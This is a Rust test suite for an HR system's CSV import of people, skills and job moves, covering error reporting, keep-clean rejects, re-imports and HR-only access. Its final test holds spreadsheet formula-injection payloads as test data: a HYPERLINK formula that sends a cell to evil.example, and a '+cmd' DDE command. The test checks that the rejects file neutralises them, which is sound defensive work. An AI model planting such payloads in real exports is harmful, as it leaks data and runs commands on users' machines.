//! Bulk import from the HR system: every kind of bad line reported by line and column, nothing
//! changed on a bad file, the keep-clean mode with its rejects, idempotent re-imports, and the
//! upload page and API for HR only.

use sqlx::PgPool;
use trellis::db::audit::Actor;
use trellis::import::{self, Kind, Options, Report};

use crate::support::{count, TestApp};

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/import/");

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{FIXTURES}{name}")).unwrap()
}

/// Two departments, two locations, two job profiles, three skills (one with an alias, one
/// with an ESCO URI).
async fn organisation(db: &PgPool) {
    for sql in [
        "insert into departments (name) values ('Engineering'), ('Finance')",
        "insert into locations (name, country_code) values ('Berlin', 'DE'), ('Lisbon', 'PT')",
        "insert into job_families (name) values ('Software')",
        "insert into job_levels (code, name, track, rank) values
            ('IC2', 'Engineer', 'individual_contributor', 2), ('IC3', 'Senior', 'individual_contributor', 3)",
        "insert into job_profiles (family_id, level_id, title)
         select f.id, l.id, t.title from job_families f,
           (values ('IC2', 'Software Engineer'), ('IC3', 'Senior Software Engineer')) t(code, title)
           join job_levels l on l.code = t.code",
        "insert into skills (name) values ('Rust'), ('PostgreSQL')",
        "insert into skills (name, esco_uri) values ('Python', 'http://example.com/esco/python')",
        "insert into skill_aliases (skill_id, alias) select id, 'Postgres' from skills where name = 'PostgreSQL'",
    ] {
        sqlx::query(sql).execute(db).await.unwrap();
    }
}

async fn run(db: &PgPool, kind: Kind, file: &str, keep_clean: bool) -> Report {
    import::run(
        db,
        kind,
        &fixture(file),
        Actor::System,
        Options { keep_clean },
        &import::quiet,
    )
    .await
    .unwrap()
}

fn located(report: &Report) -> Vec<(u64, usize, &str)> {
    report
        .problems
        .iter()
        .map(|p| (p.line, p.column, p.field.as_str()))
        .collect()
}

#[tokio::test]
async fn a_clean_people_file_is_imported_with_managers_and_one_audit_row() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;

    let report = run(&app.db, Kind::People, "people_clean.csv", false).await;

    assert!(report.applied, "{:?}", report.problems);
    assert_eq!((report.rows, report.inserted, report.updated), (4, 4, 0));
    let (manager, status, terminated): (String, String, Option<time::Date>) = sqlx::query_as(
        "select m.employee_number, p.employment_status, p.terminated_on from people p
         join people m on m.id = p.manager_id where p.employee_number = 'E4'",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert_eq!((manager.as_str(), status.as_str()), ("E2", "terminated"));
    assert_eq!(terminated.unwrap().to_string(), "2024-02-29");
    assert_eq!(
        count(
            &app.db,
            "select count(*) from people where department_id is null or job_profile_id is null"
        )
        .await,
        0
    );
    assert_eq!(count(&app.db, "select count(*) from audit_log where action = 'import.people' and (details->>'inserted')::int = 4").await, 1);
}

#[tokio::test]
async fn reimporting_the_same_people_file_changes_nothing() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;
    run(&app.db, Kind::People, "people_clean.csv", false).await;
    let before: Vec<(String, time::OffsetDateTime)> =
        sqlx::query_as("select employee_number, updated_at from people order by 1")
            .fetch_all(&app.db)
            .await
            .unwrap();

    let again = run(&app.db, Kind::People, "people_clean.csv", false).await;

    assert!(again.applied);
    assert_eq!((again.inserted, again.updated, again.unchanged), (0, 0, 4));
    let after: Vec<(String, time::OffsetDateTime)> =
        sqlx::query_as("select employee_number, updated_at from people order by 1")
            .fetch_all(&app.db)
            .await
            .unwrap();
    assert_eq!(before, after);
    assert_eq!(
        count(
            &app.db,
            "select count(*) from audit_log where action like 'person.import_%'"
        )
        .await,
        4,
        "one audit row per person from the first import, none from the re-import"
    );
    let after_json: String = sqlx::query_scalar(
        "select details->'after'->>'email' from audit_log where action = 'person.import_create' order by id limit 1",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert!(
        after_json.contains('@'),
        "the audit row holds the person after: {after_json}"
    );
}

#[tokio::test]
async fn every_bad_people_line_is_reported_by_line_and_column_and_nothing_changes() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;

    let report = run(&app.db, Kind::People, "people_bad.csv", false).await;

    assert!(!report.applied);
    assert_eq!(
        located(&report),
        vec![
            (3, 5, "manager_employee_id"),
            (3, 9, "hire_date"),
            (4, 2, "email"),
            (4, 6, "department"),
            (5, 1, "employee_id"),
            (6, 5, "manager_employee_id"),
            (7, 5, "manager_employee_id"),
            (7, 8, "job_profile"),
            (8, 2, "email"),
            (8, 10, "status"),
        ]
    );
    let message = |line, column| {
        report
            .problems
            .iter()
            .find(|p| p.line == line && p.column == column)
            .unwrap()
    };
    assert_eq!(message(3, 5).message, "unknown manager E99");
    assert_eq!(
        message(4, 2).message,
        "email ADA@example.com is also on line 2"
    );
    assert_eq!(message(4, 6).closest.as_deref(), Some("Engineering"));
    assert_eq!(message(5, 1).message, "employee id E1 is also on line 2");
    assert!(
        message(6, 5)
            .message
            .starts_with("the manager line loops: "),
        "{}",
        message(6, 5).message
    );
    assert_eq!(message(7, 8).closest.as_deref(), Some("Software Engineer"));
    assert_eq!(count(&app.db, "select count(*) from people").await, 0);
    assert_eq!(count(&app.db, "select count(*) from audit_log").await, 0);
}

#[tokio::test]
async fn an_email_already_used_by_another_employee_is_refused() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;
    run(&app.db, Kind::People, "people_clean.csv", false).await;
    let csv =
        "employee_id,email,given_name,family_name,hire_date\nE8,Grace@example.com,G,H,2020-01-01\n";

    let report = import::run(
        &app.db,
        Kind::People,
        csv.as_bytes(),
        Actor::System,
        Options::default(),
        &import::quiet,
    )
    .await
    .unwrap();

    assert_eq!(located(&report), vec![(2, 2, "email")]);
    assert_eq!(
        report.problems[0].message,
        "email Grace@example.com belongs to employee E2"
    );
}

#[tokio::test]
async fn keep_clean_imports_the_clean_rows_and_returns_the_others_with_a_reason() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;

    let report = run(&app.db, Kind::People, "people_bad.csv", true).await;

    assert!(report.applied);
    assert_eq!((report.inserted, report.rejected), (1, 6));
    let employees: Vec<String> = sqlx::query_scalar("select employee_number from people")
        .fetch_all(&app.db)
        .await
        .unwrap();
    assert_eq!(employees, vec!["E1".to_string()]);
    let rejects = report.rejects_csv.unwrap();
    let mut reader = csv::Reader::from_reader(rejects.as_bytes());
    assert_eq!(reader.headers().unwrap().iter().next_back(), Some("reason"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let ids: Vec<&str> = rows.iter().map(|r| r.get(0).unwrap()).collect();
    assert_eq!(ids, vec!["E2", "E3", "E1", "E5", "E6", "E7"]);
    // E5's manager E6 was rejected, so E5 is too
    assert!(
        rows[3].get(11).unwrap().contains("unknown manager E6"),
        "{:?}",
        rows[3]
    );
}

#[tokio::test]
async fn skills_are_found_by_name_alias_or_esco_uri_and_an_unknown_one_gets_the_closest_name() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;
    run(&app.db, Kind::People, "people_clean.csv", false).await;

    let refused = run(&app.db, Kind::Skills, "skills.csv", false).await;
    let imported = run(&app.db, Kind::Skills, "skills.csv", true).await;
    let again = run(&app.db, Kind::Skills, "skills.csv", true).await;

    assert_eq!(
        located(&refused),
        vec![
            (5, 2, "skill"),
            (6, 1, "employee_id"),
            (7, 3, "level"),
            (7, 4, "evidence")
        ]
    );
    assert_eq!(refused.problems[0].message, "unknown skill Rustt");
    assert_eq!(refused.problems[0].closest.as_deref(), Some("Rust"));
    assert_eq!((imported.inserted, imported.rejected), (3, 3));
    assert_eq!((again.inserted, again.updated, again.unchanged), (0, 0, 3));
    assert_eq!(
        count(&app.db, "select count(*) from audit_log where action = 'person_skill.import' and details->'before' = 'null'::jsonb and details->'after'->>'level' is not null").await,
        3,
        "one audit row per skill level written, none for the unchanged re-import"
    );
    let levels: Vec<(String, String, i16)> = sqlx::query_as(
        "select p.employee_number, k.name, ps.level from person_skills ps join people p on p.id = ps.person_id
         join skills k on k.id = ps.skill_id order by 1, 2",
    )
    .fetch_all(&app.db)
    .await
    .unwrap();
    assert_eq!(
        levels,
        vec![
            ("E1".into(), "PostgreSQL".into(), 3),
            ("E1".into(), "Rust".into(), 4),
            ("E2".into(), "Python".into(), 2),
        ]
    );
}

#[tokio::test]
async fn moves_update_the_people_and_a_reimport_records_nothing_twice() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;
    run(&app.db, Kind::People, "people_clean.csv", false).await;

    let refused = run(&app.db, Kind::Moves, "moves.csv", false).await;
    let imported = run(&app.db, Kind::Moves, "moves.csv", true).await;
    let again = run(&app.db, Kind::Moves, "moves.csv", true).await;

    assert_eq!(located(&refused), vec![(4, 4, "to_job_profile")]);
    assert_eq!(
        refused.problems[0].closest.as_deref(),
        Some("Senior Software Engineer")
    );
    assert_eq!(imported.inserted, 2);
    assert_eq!(again.inserted, 0);
    assert_eq!(count(&app.db, "select count(*) from moves").await, 2);
    assert_eq!(
        count(&app.db, "select count(*) from audit_log a join moves m on m.id::text = a.entity_id where a.action = 'move.import'").await,
        2,
        "one audit row per move recorded"
    );
    let (title, started): (String, time::Date) = sqlx::query_as(
        "select j.title, p.role_started_on from people p join job_profiles j on j.id = p.job_profile_id
         where p.employee_number = 'E2'",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert_eq!(
        (title.as_str(), started.to_string().as_str()),
        ("Senior Software Engineer", "2025-01-01")
    );
    assert_eq!(count(&app.db, "select count(*) from people where employee_number = 'E3' and employment_status = 'terminated'").await, 1);
}

#[tokio::test]
async fn hr_uploads_a_file_on_the_page_and_sees_the_problems() {
    let app = TestApp::with_demo().await;
    let hr = app.signed_in("hr@example.com").await;
    let csv =
        "employee_id,email,given_name,family_name,hire_date\nX1,x1@example.com,X,One,2020-02-30\n";

    let response = upload_people(&hr, csv).await;

    assert_eq!(response.status(), 303, "the import runs in the background");
    let job = response.headers()["location"].to_str().unwrap().to_string();
    assert!(job.starts_with("/hr/import/jobs/"), "{job}");
    let html = finished_job_page(&hr, &job).await;
    assert!(html.contains("Nothing was imported"), "{html}");
    assert!(html.contains("2020-02-30 is not a date (YYYY-MM-DD)"));
    assert_eq!(
        count(
            &app.db,
            "select count(*) from people where employee_number = 'X1'"
        )
        .await,
        0
    );
}

#[tokio::test]
async fn the_api_answers_422_with_every_problem_and_200_when_imported() {
    let app = TestApp::with_demo().await;
    let hr = app.signed_in("hr@example.com").await;
    let bad = "employee_id,email,given_name,family_name,manager_employee_id,hire_date\nX1,x1@example.com,X,One,NOPE,2020-01-01\n";
    let good =
        "employee_id,email,given_name,family_name,hire_date\nX1,x1@example.com,X,One,2020-01-01\n";

    let refused = hr
        .post_body(
            "/api/v1/hr/import/people",
            "text/csv",
            "application/json",
            bad.into(),
        )
        .await;
    let imported = hr
        .post_body(
            "/api/v1/hr/import/people",
            "text/csv",
            "application/json",
            good.into(),
        )
        .await;

    assert_eq!(refused.status(), 422);
    let body: serde_json::Value = refused.json().await.unwrap();
    assert_eq!(body["problems"][0]["line"], 2);
    assert_eq!(body["problems"][0]["column"], 5);
    assert_eq!(body["problems"][0]["message"], "unknown manager NOPE");
    assert_eq!(imported.status(), 200);
    assert_eq!(
        count(
            &app.db,
            "select count(*) from people where employee_number = 'X1'"
        )
        .await,
        1
    );
}

#[tokio::test]
async fn employees_and_managers_cannot_reach_the_hr_admin_pages_or_api() {
    let app = TestApp::with_demo().await;
    for email in ["employee@example.com", "manager@example.com"] {
        let client = app.signed_in(email).await;
        for path in ["/hr/import", "/hr/skills"] {
            assert_eq!(client.get(path).await.status(), 403, "{email} {path}");
        }
        assert_eq!(
            client.get_json("/api/v1/hr/skills").await.status(),
            403,
            "{email}"
        );
        let csv = "employee_id,email,given_name,family_name,hire_date\nX1,x1@example.com,X,One,2020-01-01\n";
        let post = client
            .post_body(
                "/api/v1/hr/import/people",
                "text/csv",
                "application/json",
                csv.into(),
            )
            .await;
        assert_eq!(post.status(), 403, "{email}");
        let merge = client
            .send_json(
                reqwest::Method::POST,
                "/api/v1/hr/skills/merge",
                Some(serde_json::json!({"from": "a", "into": "b"})),
            )
            .await;
        assert_eq!(merge.status(), 403, "{email}");
    }
    assert_eq!(
        count(
            &app.db,
            "select count(*) from people where employee_number = 'X1'"
        )
        .await,
        0
    );
}

/// Upload a people CSV through the page's multipart form (the CSRF token in the query string).
pub(crate) async fn upload_people(hr: &crate::support::Client, csv: &str) -> reqwest::Response {
    let token = hr.csrf_token_from("/hr/import").await;
    let body = format!(
        "--B\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\npeople\r\n--B\r\n\
         Content-Disposition: form-data; name=\"file\"; filename=\"p.csv\"\r\nContent-Type: text/csv\r\n\r\n{csv}\r\n--B--\r\n"
    );
    hr.post_body(
        &format!("/hr/import?csrf_token={token}"),
        "multipart/form-data; boundary=B",
        "text/html",
        body.into_bytes(),
    )
    .await
}

/// Follow an import job's page until it stops refreshing itself (bounded wait), and return it.
pub(crate) async fn finished_job_page(client: &crate::support::Client, job: &str) -> String {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let page = client.get(job).await;
        assert_eq!(page.status(), 200);
        if !page.headers().contains_key("refresh") {
            return page.text().await.unwrap();
        }
        let html = page.text().await.unwrap();
        assert!(html.contains("data-testid=\"import-progress\""), "{html}");
        assert!(
            std::time::Instant::now() < deadline,
            "the import never finished"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn a_page_upload_imports_in_the_background_and_its_job_page_shows_the_report() {
    let app = TestApp::with_demo().await;
    let hr = app.signed_in("hr@example.com").await;
    let csv = "employee_id,email,given_name,family_name,hire_date\nZ9,z9@example.com,Zoe,Nine,2021-03-01\n";

    let response = upload_people(&hr, csv).await;

    assert_eq!(response.status(), 303);
    let job = response.headers()["location"].to_str().unwrap().to_string();
    let html = finished_job_page(&hr, &job).await;
    assert!(html.contains("Imported"), "{html}");
    assert!(html.contains("1 added"), "{html}");
    assert_eq!(
        count(
            &app.db,
            "select count(*) from people where employee_number = 'Z9'"
        )
        .await,
        1
    );
    assert_eq!(
        count(
            &app.db,
            "select count(*) from import_jobs where status = 'done' and report is not null"
        )
        .await,
        1
    );
    let employee = app.signed_in("employee@example.com").await;
    assert_eq!(employee.get(&job).await.status(), 403, "HR only");

    // A job still running shows its phase and rows, and asks the browser to refresh.
    let running: uuid::Uuid = sqlx::query_scalar(
        "insert into import_jobs (kind, phase, rows_read) values ('people', 'checking managers', 120000) returning id",
    )
    .fetch_one(&app.db)
    .await
    .unwrap();
    let page = hr.get(&format!("/hr/import/jobs/{running}")).await;
    assert_eq!(page.headers()["refresh"], "2");
    let html = page.text().await.unwrap();
    assert!(
        html.contains("checking managers · 120000 rows read"),
        "{html}"
    );

    // A job whose server stopped (no heartbeat for minutes) is shown as failed, not running.
    sqlx::query("update import_jobs set heartbeat_at = now() - interval '4 minutes' where id = $1")
        .bind(running)
        .execute(&app.db)
        .await
        .unwrap();
    let page = hr.get(&format!("/hr/import/jobs/{running}")).await;
    assert!(
        page.headers().get("refresh").is_none(),
        "no more refreshing"
    );
    let html = page.text().await.unwrap();
    assert!(
        html.contains("The server running this import stopped"),
        "{html}"
    );
    let status: String = sqlx::query_scalar("select status from import_jobs where id = $1")
        .bind(running)
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert_eq!(status, "failed");
}

#[tokio::test]
async fn the_rejects_file_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
    let app = TestApp::empty().await;
    organisation(&app.db).await;
    let csv = "employee_id,email,given_name,family_name,hire_date\n\
               E1,ada@example.com,Ada,Lovelace,2015-03-01\n\
               E2,grace@example.com,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",@SUM(A1),yesterday\n\
               E3,-1,+cmd|' /C calc'!A0,-42,2015-13-01\n";

    let report = import::run(
        &app.db,
        Kind::People,
        csv.as_bytes(),
        Actor::System,
        Options { keep_clean: true },
        &import::quiet,
    )
    .await
    .unwrap();

    assert_eq!((report.inserted, report.rejected), (1, 2));
    let rejects = report.rejects_csv.unwrap();
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(rejects.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        &rows[0].iter().take(4).collect::<Vec<_>>(),
        &[
            "E2",
            "grace@example.com",
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "'@SUM(A1)"
        ]
    );
    assert_eq!(
        &rows[1].iter().take(4).collect::<Vec<_>>(),
        &["E3", "-1", "'+cmd|' /C calc'!A0", "-42"],
        "plain negative numbers stay numbers"
    );
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
    }
}
